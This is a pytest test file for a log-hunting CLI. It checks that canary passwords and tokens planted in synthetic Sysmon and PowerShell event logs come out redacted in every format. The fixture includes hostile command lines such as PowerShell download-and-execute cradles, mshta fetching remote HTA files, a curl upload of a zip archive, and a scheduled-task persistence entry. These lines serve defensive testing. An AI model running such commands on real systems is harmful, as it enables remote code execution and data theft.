"""Canaries: secrets put into evidence must not come out anywhere, in no format, message or cache, unless asked for."""

from __future__ import annotations

import base64
import json
from pathlib import Path
from typing import Any

import pytest

from douse.cli.exports import FILES
from douse.cli.main import main

CANARY = "Zx9-Canary_77Q"
TOKEN = "ghp_C4naryC4naryC4naryC4naryC4naryC4nary"
ENCODED = base64.b64encode(f"$Password = '{CANARY}'; IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a')"
                           .encode("utf-16-le")).decode()
SYSMON = "Microsoft-Windows-Sysmon/Operational"
POWERSHELL = "Microsoft-Windows-PowerShell/Operational"
COMMANDS = (
    f"mshta https://anna:{CANARY}@bad.example/x.hta?access_token={CANARY} # I am not a robot",
    f"powershell -w hidden -enc {ENCODED}",
    f"powershell -w hidden iex(iwr http://198.51.100.9/p -Headers @{{Authorization = 'Bearer {CANARY}'}})",
    f"curl.exe -u anna:{CANARY} -F f=@C:\\Users\\anna\\x.zip https://203.0.113.9/up?sig={CANARY}{CANARY}",
    f"cmd /c net use \\\\srv\\c$ /user:corp\\anna {CANARY} & mshta http://198.51.100.9/a.hta",
    f"schtasks /create /tn Upd /tr \"mshta http://198.51.100.9/a.hta\" /ru anna /rp {CANARY}",
    f"powershell -w hidden -c $env:GITHUB_TOKEN='{TOKEN}';iex(iwr http://198.51.100.9/p)",
)


def _record(number: int, channel: str, event_id: int, **data: object) -> dict[str, Any]:
    provider = {SYSMON: "Microsoft-Windows-Sysmon", POWERSHELL: "Microsoft-Windows-PowerShell"}[channel]
    return {"Event": {"System": {
        "Provider": {"#attributes": {"Name": provider}}, "EventID": event_id, "EventRecordID": number,
        "Channel": channel, "Computer": "WS-1.corp.example",
        "TimeCreated": {"#attributes": {"SystemTime": f"2026-11-03T08:00:{number:02d}.000Z"}}}, "EventData": data}}


def _records() -> list[dict[str, Any]]:
    found = [_record(1, SYSMON, 13, EventType="SetValue", ProcessGuid="{1-0}", ProcessId=4000,
                     Image="C:\\Windows\\explorer.exe", Details=f"{COMMANDS[0]}\\1", User="CORP\\anna",
                     TargetObject="HKU\\S-1-5-21-1-2-3-1001\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer"
                                  "\\RunMRU\\a")]
    for number, command in enumerate(COMMANDS, 2):
        image = {"mshta": "mshta.exe", "powershell": "WindowsPowerShell\\v1.0\\powershell.exe", "curl.exe": "curl.exe",
                 "cmd": "cmd.exe", "schtasks": "schtasks.exe"}[command.split()[0]]
        found.append(_record(
            number, SYSMON, 1, UtcTime=f"2026-11-03 08:00:{number:02d}.000", ProcessGuid=f"{{{number}-1}}",
            ProcessId=5000 + number, Image=f"C:\\Windows\\System32\\{image}", CommandLine=command, User="CORP\\anna",
            ParentImage="C:\\Windows\\explorer.exe", ParentProcessGuid="{1-0}", ParentProcessId=4000,
            ParentCommandLine=f"explorer.exe --password {CANARY}", Hashes="SHA256=" + "ab" * 32, Password=CANARY))
    script = f"$pw = ConvertTo-SecureString '{CANARY}' -AsPlainText -Force\niex (iwr http://198.51.100.9/p).Content"
    found.append(_record(40, POWERSHELL, 4104, ScriptBlockText=script, ScriptBlockId="1", Path=""))
    return found


@pytest.fixture
def evidence(tmp_path: Path) -> Path:
    """A log full of secrets."""
    path = tmp_path / "evidence" / "secrets.jsonl"
    path.parent.mkdir()
    path.write_text("".join(json.dumps(record) + "\n" for record in _records()) + f'{{"broken": "password={CANARY}"\n')
    return path


def _leaks(data: bytes) -> list[str]:
    text = data.decode("utf-8")
    plain = (CANARY, TOKEN, ENCODED, ENCODED.replace("=", "\\u003d").replace("+", "\\u002b"))
    return [secret for secret in plain if secret in text]


def test_no_secret_comes_out_in_any_format(evidence: Path, tmp_path: Path, capfd: pytest.CaptureFixture[str],
                                           monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("DOUSE_CACHE_DIR", str(tmp_path / "cache"))
    assert main(["hunt", str(evidence), "--format", ",".join(FILES), "-o", str(tmp_path / "out")]) == 4
    assert main(["hunt", str(evidence)]) == 4
    written = [path for path in (tmp_path / "out").rglob("*") if path.is_file()]
    assert {path.name for path in written} == set(FILES.values())
    assert {path.name: _leaks(path.read_bytes()) for path in written} == {path.name: [] for path in written}
    printed = capfd.readouterr()
    assert _leaks(printed.out.encode()) == _leaks(printed.err.encode()) == []
    cached = [path for path in (tmp_path / "cache").rglob("*") if path.is_file()]
    assert cached
    assert not any(CANARY.encode() in path.read_bytes() for path in cached)
    document = json.loads((tmp_path / "out" / FILES["json"]).read_text())
    assert len(document["alerts"]) > len(COMMANDS)
    assert sum("[redacted]" in json.dumps(alert) for alert in document["alerts"]) >= len(COMMANDS)
    assert sum("[redacted]" in json.dumps(incident) for incident in document["incidents"]) >= 1


def test_a_saved_hunt_stays_masked(evidence: Path, tmp_path: Path, capfd: pytest.CaptureFixture[str]) -> None:
    saved = tmp_path / "saved.json"
    assert main(["hunt", str(evidence), "--format", "json", "--no-redact", "-o", str(saved)]) == 4
    assert CANARY in saved.read_text()
    assert TOKEN in saved.read_text()
    capfd.readouterr()
    assert main(["report", str(saved), "--format", "markdown"]) in {0, 4}
    assert _leaks(capfd.readouterr().out.encode()) == []


@pytest.mark.parametrize("listed", ["", "good.example\n"])
def test_an_error_that_quotes_a_list_is_masked(listed: str, evidence: Path, tmp_path: Path,
                                               capfd: pytest.CaptureFixture[str]) -> None:
    feed = tmp_path / "feed.txt"
    feed.write_text(f"{listed}https://anna:{CANARY}@feed.example/a b\n")
    code = main(["hunt", str(evidence), "--ioc", str(feed), "-o", str(tmp_path / "t.txt"), "-q"])
    assert code == (4 if listed else 5)
    said = capfd.readouterr().err
    assert "douse: " in said
    assert _leaks(said.encode()) == []
